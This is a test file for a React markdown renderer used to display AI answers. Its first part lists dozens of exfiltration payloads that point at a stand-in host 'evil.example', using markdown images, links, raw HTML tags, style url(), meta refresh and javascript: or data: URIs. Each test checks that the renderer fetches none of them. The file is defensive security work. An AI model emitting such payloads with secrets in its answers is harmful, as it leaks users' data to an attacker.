import { renderToStaticMarkup } from 'react-dom/server';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import AnswerMarkdown from './answer-markdown.tsx';

beforeAll(() => void vi.stubGlobal('location', { origin: 'https://atelier.example' }));
afterAll(() => void vi.unstubAllGlobals());

const EVIL = 'https://evil.example/?q=secret-canary';
const html = (text: string, words = 'Hi') =>
  renderToStaticMarkup(<AnswerMarkdown text={text} live={false} words={words} />);

/** What a browser would fetch, look up or run by itself, or go to at one press. */
const ACTS =
  /<(?:img|script|style|link|iframe|object|embed|video|audio|source|image|use|form|meta|base)\b|\s(?:src|srcset|href|style|on\w+|action|background|poster|ping|formaction)\s*=/i;

describe('an answer with a secret in it', () => {
  test.each([
    `![x](${EVIL})`,
    `![x](<${EVIL}> "title")`,
    `![x][1]\n\n[1]: ${EVIL}`,
    `[![x](${EVIL})](${EVIL})`,
    `[a link](${EVIL})`,
    `[a link][1]\n\n[1]: ${EVIL}`,
    `<${EVIL}>`,
    `Bare ${EVIL} in a sentence`,
    'www.evil.example/secret-canary',
    '<secret-canary@evil.example>',
    'secret-canary@evil.example',
    '[mail](mailto:a@evil.example?body=secret-canary)',
    `[](${EVIL})`,
    `# [heading](${EVIL})`,
    `| a |\n|---|\n| ![x](${EVIL}) |`,
    `- [ ] ![x](${EVIL})`,
    `~~[gone](${EVIL})~~`,
    `Text[^1]\n\n[^1]: ![x](${EVIL})`,
    `<img src="${EVIL}">`,
    `<img srcset="${EVIL} 2x">`,
    `<svg><image href="${EVIL}"/></svg>`,
    `<style>*{background:url(${EVIL})}</style>`,
    `<p style="background:url(${EVIL})">x</p>`,
    `<link rel="dns-prefetch" href="//secret-canary.evil.example">`,
    `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
    `<iframe src="${EVIL}"></iframe>`,
    `<a href="${EVIL}" ping="${EVIL}">x</a>`,
    `<base href="${EVIL}">`,
    `<form action="${EVIL}"><button>Go</button></form>`,
    '![x](//evil.example/secret-canary)',
    '![x](data:image/svg+xml;base64,PHN2Zy8+)',
    '![x](blob:https://evil.example/1)',
    '[x](javascript:fetch("https://evil.example"))',
    '[x](data:text/html,<script>1</script>)',
    '[x](vbscript:x)',
    '[x](//evil.example/secret-canary)',
    `![x](https://atelier.example@evil.example/secret-canary)`,
    `![x](https://atelier.example.evil.example/secret-canary)`,
    `\`\`\`html\n<img src="${EVIL}">\n\`\`\``,
    `&lt;img src=${EVIL}&gt;`,
  ])('sends nothing: %s', (text) => {
    const tags = html(text).match(/<[^>]*>/g) ?? [];
    expect(tags.join('')).not.toMatch(ACTS);
  });

  test('has a link only where the person wrote the very address', () => {
    expect(html(`[x](${EVIL})`, `Read ${EVIL}`)).toContain('rel="noopener noreferrer"');
    expect(html(`[x](${EVIL})`, 'Read https://evil.example/')).not.toContain('href=');
    expect(html(`[x](${EVIL})`, `Read ${EVIL}-and-more`)).not.toContain('href=');
  });

  test('shows a picture of a session, and asks no other address of ours', () => {
    const path = '/api/sessions/s-1/attachments/a-1';
    expect(html(`![x](${path})`)).toContain(`src="https://atelier.example${path}"`);
    expect(html('![x](/api/export)')).not.toContain('<img');
  });
});

test.each([
  [
    'a **b** *c* ~~d~~ `e\nf`',
    '<p dir="auto">a <strong>b</strong> <em>c</em> <del>d</del> <code dir="ltr">e f</code></p>',
  ],
  ['# A\n\n##### B', '<h3 dir="auto" data-level="1">A</h3><h3 dir="auto" data-level="3">B</h3>'],
  ['a\\\nb\n\n***', '<p dir="auto">a<br/>b</p><hr/>'],
  ['> a', '<blockquote dir="auto"><p>a</p></blockquote>'],
  ['- a\n- b\n  1. c', '<ul><li dir="auto">a</li><li dir="auto">b<ol><li dir="auto">c</li></ol></li></ul>'],
  ['3. a\n\n4. b', '<ol start="3"><li dir="auto"><p>a</p></li><li dir="auto"><p>b</p></li></ol>'],
  ['| א |\n|-|', '<div data-block="" dir="auto"'],
  ['| a | b |\n|-|-:|\n| 1 |', '<tr><td>1</td><td style="text-align:right"></td></tr>'],
  ['a[^x] b[^y] c[^x]\n\n[^y]: Y\n[^x]: X', 'aria-label="Footnote 2" class="footnote-link">2</button></sup> c<sup>'],
  ['- a[^x]\n\n[^x]: X', 'tabindex="-1"><p dir="auto">X</p><button'],
  ['$a^2$', '<span hidden=""></span><code>$a^2$</code>'],
  ['It is $5 or $6', '<p dir="auto">It is $5 or $6</p>'],
  ['```mermaid\nflowchart TD\n```', 'Drawing the diagram…'],
  ['- [x] a\n- [ ] b', '☑</span> a</li>'],
  ['```js\na\n\n```', '<code class="font-mono text-sm leading-6">a\n</code>'],
  ['```js\na\n```', '<div data-block="" dir="ltr"'],
  ['<b>a</b>', '&lt;b&gt;a&lt;/b&gt;'],
  ['这是**“重要”**的，~~删除。~~这', '<strong>“重要”</strong>的，<del>删除。</del>这'],
  ['**太字（これ）**は', '<p dir="auto"><strong>太字（これ）</strong>は</p>'],
  ['**강조(강조)**는', '<strong>강조(강조)</strong>는'],
  ['H<sub>2</sub>O<BR/>10<sup>3</sup>', 'H<sub>2</sub>O<br/>10<sup>3</sup></p>'],
  ['| a |\n|-|\n| b<br>c<br />**d** |', '<td>b<br/>c<br/><strong>d</strong></td>'],
  ['<br>\n**a** <KBD>Esc</KBD>', '<br/>\n<strong>a</strong> <kbd>Esc</kbd>'],
  ['<sub>a</sup> <sub/>', '&lt;sub&gt;a&lt;/sup&gt; &lt;sub/&gt;'],
  ['<sub class="b">c</sub>', '&lt;sub class=&quot;b&quot;&gt;c&lt;/sub&gt;'],
  ['**<sub>a**</sub>', '<strong>&lt;sub&gt;a</strong>&lt;/sub&gt;'],
  ['<div>\n**a**\n</div>', '&lt;div&gt;\n<strong>a</strong>\n&lt;/div&gt;'],
  ['`a<br>b`', '<code dir="ltr">a&lt;br&gt;b</code>'],
])('formats %j', (text, expected) => {
  expect(html(text)).toContain(expected);
});

test.each([
  ['见https://a.example/x_y_z。然后', 'https://a.example/x_y_z'],
  ['**见 https://a.example/路**。', 'https://a.example/路'],
  ['（https://a.example）', 'https://a.example'],
  ['[见 https://a.example】', 'https://a.example'],
  ['انظر https://a.example/x، ثم', 'https://a.example/x'],
  ['“https://a.example/?b=*c*d”', 'https://a.example/?b=*c*d'],
  ['(https://a.example/b_(c)).', 'https://a.example/b_(c)'],
  ['http://localhost:3000/a_b_c, or', 'http://localhost:3000/a_b_c'],
  ['**https://a.example**查看', 'https://a.example'],
])('the address in %j ends where it does', (text, address) => {
  expect(html(text)).toContain(`role="link" tabindex="0" aria-haspopup="dialog">${address}</span>`);
});

test('an address follows a script without spaces, and its link opens where the person wrote it so', () => {
  expect(html('访问www.example.com吧')).toContain('>www.example.com吧</span>');
  expect(html('见https://a.example/b。', '请看https://a.example/b。谢谢')).toContain('<a href="https://a.example/b"');
  expect(html('[a https://a.example](https://b.example)')).toContain('>a https://a.example</span>');
});

test('a growing answer shows no half of a mark', () => {
  const text = '**「重要」**：H<sub>2</sub>O<br>*第二*行 <kbd>Esc</kbd>。';
  for (let end = 1; end <= text.length; end += 1) {
    const grown = renderToStaticMarkup(<AnswerMarkdown text={text.slice(0, end)} live words="" />);
    expect(grown, text.slice(0, end)).not.toMatch(/&lt;|<em>(?!第二<)|\*<em>/u);
  }
  const never = renderToStaticMarkup(
    <AnswerMarkdown text={`<sub> is a tag ${'that nobody closes '.repeat(3)}`} live words="" />,
  );
  expect(never).toContain('&lt;sub&gt; is a tag');
});
